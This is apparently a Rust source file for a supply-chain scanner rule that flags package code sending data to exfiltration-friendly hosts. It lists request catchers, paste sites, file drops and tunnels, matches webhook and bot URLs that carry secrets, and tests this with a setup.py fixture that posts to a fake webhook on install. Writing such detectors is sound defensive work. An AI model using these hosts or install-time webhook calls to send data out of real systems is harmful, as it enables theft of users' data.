use apa_model::{Confidence, Severity};

use super::{Hit, Rule, RuleInfo, leaves, peer};
use crate::flow::Source;
use crate::package::Package;

pub(crate) struct CodeUsesDropHost;

static INFO: RuleInfo = RuleInfo {
    id: "code-uses-drop-host",
    title: "Code sends to a place that keeps no questions",
    severity: Severity::High,
    confidence: Confidence::High,
    attack: &["T1567.004", "T1567"],
    explanation: "A request to a webhook with its secret in the address, a bot's interface, a request catcher, a \
                  paste, a file drop or a tunnel: by code that runs by itself, or with something that was \
                  collected.",
};

impl Rule for CodeUsesDropHost {
    fn info(&self) -> &'static RuleInfo {
        &INFO
    }

    fn hits(&self, package: &Package) -> Vec<Hit> {
        let mut hits = Vec::new();
        for act in package.acts().filter(|act| leaves(act) && drops(&act.text)) {
            let when = package.when(act);
            let collected = act.taints.iter().any(|taint| {
                !matches!(
                    taint.source,
                    Source::Download
                        | Source::Platform
                        | Source::Variable
                        | Source::Blob
                        | Source::Decoded
                )
            });
            let (severity, confidence) = match (when.by_itself(), collected) {
                (true, true) => (Severity::High, Confidence::High),
                (true, false) | (false, true) => (Severity::High, Confidence::Medium),
                (false, false) if holds_key(&act.text) => (Severity::Medium, Confidence::Medium),
                (false, false) => continue,
            };
            let clause = format!("sends to {} {}", peer(act), when.words());
            hits.push(
                Hit::new(severity, confidence, clause).with([package.evidence(act, "sent here")]),
            );
        }
        hits
    }
}

/// Hosts that take whatever is sent to them. Data, not logic.
const HOSTS: &[&str] = &[
    "webhook.site",
    "requestbin",
    "pipedream.net",
    "beeceptor.com",
    "hookbin",
    "burpcollaborator",
    "oastify.com",
    "interact.sh",
    ".oast.",
    "oast.fun",
    "oast.me",
    "oast.pro",
    "oast.live",
    "oast.online",
    "canarytokens.com",
    "dnslog.cn",
    "ngrok.io",
    "ngrok-free.app",
    "ngrok.app",
    "trycloudflare.com",
    "serveo.net",
    "localhost.run",
    "loca.lt",
    "pastebin.com/api",
    "pastebin.com/raw",
    "paste.ee",
    "hastebin",
    "transfer.sh",
    "file.io",
    "gofile.io",
    "anonfiles",
    "0x0.st",
    "catbox.moe",
    "bashupload",
    "temp.sh",
    "ipinfo.io/json",
    "ceye.io",
    "requestrepo.com",
    "rentry.co",
    "termbin.com",
    "tmpfiles.org",
    "store1.gofile",
];

/// Whether an address is of a place that takes anything from anybody.
pub(super) fn drops(text: &str) -> bool {
    let lower = text.to_lowercase();
    HOSTS.iter().any(|host| lower.contains(host)) || holds_key(text)
}

/// A webhook or a bot with its secret in the address.
fn holds_key(text: &str) -> bool {
    let secret = |part: &str, least: usize| {
        let key = part
            .bytes()
            .take_while(|byte| byte.is_ascii_alphanumeric() || b"_-".contains(byte))
            .count();
        key >= least
    };
    let webhook = text.split("/api/webhooks/").nth(1).is_some_and(|rest| {
        let mut parts = rest.split('/');
        parts
            .next()
            .is_some_and(|id| id.len() >= 15 && id.bytes().all(|byte| byte.is_ascii_digit()))
            && parts.next().is_some_and(|key| secret(key, 30))
    });
    let bot = text.split("/bot").skip(1).any(|rest| {
        rest.split_once(':').is_some_and(|(id, key)| {
            (8..=12).contains(&id.len())
                && id.bytes().all(|byte| byte.is_ascii_digit())
                && secret(key, 30)
        })
    });
    let services = text
        .split("/services/T")
        .nth(1)
        .is_some_and(|rest| rest.split('/').nth(2).is_some_and(|key| secret(key, 20)));
    webhook || bot || services
}

#[cfg(test)]
mod tests {
    use super::super::testing::{found, line, quiet};
    use super::*;

    #[test]
    fn a_webhook_with_its_secret_is_found() {
        let hook = "https://chat.example/api/webhooks/123456789012345678/abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789_-ab";
        let code =
            format!("import requests\nrequests.post('{hook}', json={{'content': 'installed'}})");
        let finding = found("code-uses-drop-host", &[("setup.py", &code)]);
        assert_eq!((finding.severity, line(&finding).1), (Severity::High, 2));
    }

    #[test]
    fn a_client_of_such_a_service_is_left_alone() {
        quiet(
            "code-uses-drop-host",
            &[(
                "a/client.py",
                "import requests\nBASE = 'https://chat.example/api/webhooks/'\ndef send(id, token, text):\n    requests.post(BASE + id + '/' + token, json={'content': text})",
            )],
        );
    }
}
